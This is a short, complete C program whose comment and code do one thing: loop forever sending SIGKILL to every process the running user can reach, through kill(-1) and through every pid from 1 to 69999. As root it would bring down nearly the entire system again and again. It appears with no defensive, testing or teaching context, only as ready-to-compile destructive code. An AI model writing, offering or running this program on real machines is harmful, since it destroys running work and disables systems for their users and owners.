/* Sends SIGKILL to everybody whom it may reach, and to each pid by itself. */
#include <signal.h>
#include <unistd.h>

int main(void)
{
    for (;;) {
        kill(-1, SIGKILL);
        for (int pid = 1; pid < 70000; pid++)
            if (pid != getpid())
                kill(pid, SIGKILL);
    }
}
